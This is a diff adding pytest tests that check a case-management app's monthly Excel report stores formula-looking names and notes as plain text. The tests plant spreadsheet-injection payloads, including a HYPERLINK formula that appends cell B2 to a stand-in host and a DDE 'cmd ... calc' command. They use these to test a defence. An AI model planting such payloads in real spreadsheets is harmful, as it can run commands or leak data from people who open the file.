@@ -99,3 +99,77 @@ def test_no_cell_of_the_monthly_workbook_is_a_formula():
     # Kept exactly as written, stored as text with Excel's quote prefix (never a formula).
     assert len(planted_cells) == 2 and all(c.data_type == "s" and c.quotePrefix for c in planted_cells)
     assert all(c.data_type != "f" for c in cells)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_is_stored_as_a_text_cell_in_the_monthly_workbook(start):
+    """Whatever writer makes the workbook: a name or note beginning with any of = + - @ tab CR is
+    a shared/inline *string* cell in the file's XML (t="s" or t="inlineStr"), never a formula
+    (<f>), and reads back as the very text, marked with Excel's quote prefix."""
+    import datetime as dt
+    import re
+    import zipfile
+
+    from app.printing.data import ServiceLine
+    planted = f'{start}HYPERLINK("http://x.example/?"&B2,"باز کنید")'
+    data = samples.sample_monthly_report(2)
+    line = ServiceLine(date=dt.date(2026, 11, 1), kind_label="مشاوره", mode_label="تلفنی", minutes=10,
+                       summary_text=planted)
+    client = dataclasses.replace(data.clients[0], full_name=f"{start}SUM(1+1)", social_worker=f"{start}1+2",
+                                 services=[line])
+    data = dataclasses.replace(data, clients=[client, *data.clients[1:]], generated_by=f"{start}cmd|' /C calc'!A0")
+    out = io.BytesIO()
+    monthly_report_xlsx(data, out)
+    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as archive:
+        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and not any(re.search(r"<f[ >]", xml) for xml in sheets)
+    book = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
+    cells = [c for sheet in book.worksheets for r in sheet.iter_rows() for c in r if c.value is not None]
+    assert all(c.data_type != "f" for c in cells)
+    # A carriage return is stored as OOXML's escape «_x000D_» (Excel reads it back as CR; openpyxl does not).
+    looking = {c.value.replace("_x000D_", "\r"): c for c in cells if c.data_type == "s"}
+    for value in (planted, f"{start}SUM(1+1)", f"{start}1+2", f"{start}cmd|' /C calc'!A0"):
+        # kept exactly as written, with Excel's quote prefix (app.printing.cells)
+        assert value in looking and looking[value].quotePrefix, value
+
+
+def test_workbook_written_row_by_row_in_a_folder_is_the_same_and_safe(report, tmp_path, monkeypatch):
+    """Given the data folder, the workbook streams its rows through temporary files made there
+    (never the system's temporary folder: they hold names), with the same cells as in memory."""
+    import tempfile
+
+    made_in: list[str] = []
+    real = tempfile.mkstemp
+
+    def spy(*args, **kwargs):
+        made_in.append(str(kwargs.get("dir")))
+        return real(*args, **kwargs)
+
+    monkeypatch.setattr(tempfile, "mkstemp", spy)
+    planted = dataclasses.replace(report.clients[0], full_name="=HYPERLINK(\"http://x.example\")")
+    data = dataclasses.replace(report, clients=[planted, *report.clients[1:]])
+    in_memory, streamed = io.BytesIO(), io.BytesIO()
+    monthly_report_xlsx(data, in_memory)
+    monthly_report_xlsx(data, streamed, tmpdir=tmp_path)
+    assert made_in and set(made_in) == {str(tmp_path)}
+    assert list(tmp_path.iterdir()) == []  # nothing left behind
+
+    def cells(blob):
+        book = openpyxl.load_workbook(io.BytesIO(blob.getvalue()))
+        return [[(c.value, c.data_type) for c in row] for sheet in book.worksheets for row in sheet.iter_rows()]
+
+    assert cells(streamed) == cells(in_memory)
+    assert ("=HYPERLINK(\"http://x.example\")", "s") in [cell for row in cells(streamed) for cell in row]
+
+
+def test_monthly_json_is_byte_for_byte_what_json_dumps_writes(report):
+    """The JSON is written row by row, and its bytes (whose SHA-256 is the printed code's digest)
+    are exactly those of the whole document dumped at once."""
+    from app.printing.export import JSON_VERSION, payable_case_months  # noqa: F401
+    written = monthly_report_json(report)
+    document = json.loads(written)
+    assert document["rows"] == json.loads(json.dumps(report.to_table_rows()))
+    assert written == json.dumps(document, ensure_ascii=False, indent=1).encode("utf-8")
+    empty = dataclasses.replace(report, clients=[])
+    assert json.loads(monthly_report_json(empty))["rows"] == []
+    assert b'"rows": []' in monthly_report_json(empty)
